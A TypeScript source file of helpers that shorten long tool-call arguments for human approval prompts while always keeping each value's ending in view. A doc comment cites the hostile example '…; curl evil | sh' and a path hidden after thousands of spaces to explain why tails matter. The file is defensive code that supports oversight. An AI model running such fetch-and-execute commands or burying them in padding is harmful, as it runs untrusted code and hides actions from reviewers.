/**
 * Shortening long text for a person to judge, head and tail kept: what a long argument ends
 * with (`…; curl evil | sh`, a path after 5 000 spaces) is often what matters, so it is never
 * the part cut away.
 */

/** `text` in at most `max` characters: its head, how long it was, its tail. */
export function abridge(text: string, max: number): string {
  if (text.length <= max) return text;
  const marker = ` … (${text.length} chars) … `;
  const keep = Math.max(2, max - marker.length);
  const head = Math.ceil(keep / 2);
  return `${text.slice(0, head)}${marker}${text.slice(text.length - (keep - head))}`;
}

/**
 * One line of JSON for an approval: each long string abridged to `valueChars`, the whole to
 * `totalChars`, so a prompt stays readable whatever the model sent (a whole file, a long command)
 * and still shows how every value ends.
 */
export function summarizeArguments(
  input: Record<string, unknown>,
  { valueChars = 80, totalChars = 600 }: { valueChars?: number; totalChars?: number } = {},
): string {
  const shortened = JSON.stringify(input, (_key, value: unknown) =>
    typeof value === 'string' ? abridge(value, valueChars) : value,
  );
  return abridge(shortened ?? '{}', totalChars);
}

/** Indented JSON for an approval card: every long string abridged, its end kept in view. */
export function abridgedJson(input: Record<string, unknown>, valueChars = 600): string {
  return JSON.stringify(
    input,
    (_key, value: unknown) => (typeof value === 'string' ? abridge(value, valueChars) : value),
    2,
  );
}
